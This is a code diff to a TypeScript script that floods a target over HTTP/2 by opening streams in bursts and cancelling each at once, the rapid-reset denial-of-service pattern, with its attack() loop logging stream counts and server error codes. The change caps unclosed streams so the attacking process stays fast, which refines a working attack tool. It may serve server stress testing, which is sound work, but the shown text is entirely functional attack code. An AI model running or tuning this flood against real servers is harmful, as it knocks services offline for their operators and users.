@@ -26,10 +26,14 @@ const tls = await obtainCertificate({
 });
 const end = Date.now() + Number(values.seconds) * 1_000;
 
+/** Node tidies up after a connection in a time that is quadratic in its streams: minutes for tens of thousands. */
+const MAX_UNCLOSED = 1_000;
+
 /** One connection until the other side ends it; resolves with what it said. */
 function attack(): Promise<{ streams: number; code: number }> {
   return new Promise((resolve) => {
     let streams = 0;
+    let unclosed = 0;
     let code = 0;
     const socket = connectTls({
       ...tls,
@@ -44,9 +48,11 @@ function attack(): Promise<{ streams: number; code: number }> {
     // a handshake that is refused ends the socket, but no session
     socket.on("close", () => resolve({ streams, code }));
     const burst = (): void => {
-      for (let n = 0; n < 50 && !session.destroyed && !session.closed; n++) {
+      for (let n = 0; n < 50 && unclosed < MAX_UNCLOSED && !session.closed; n++) {
         const stream = session.request({ ":method": "CONNECT", ":authority": values.authority });
         stream.on("error", () => {});
+        stream.once("close", () => unclosed--);
+        unclosed++;
         stream.close(constants.NGHTTP2_CANCEL);
         streams++;
       }
@@ -57,6 +63,5 @@ function attack(): Promise<{ streams: number; code: number }> {
   });
 }
 
-// Node needs minutes to tidy up after tens of thousands of streams
 setTimeout(() => process.exit(), Number(values.seconds) * 1_000 + 1_000);
 while (Date.now() < end) process.stdout.write(`${JSON.stringify(await attack())}\n`);
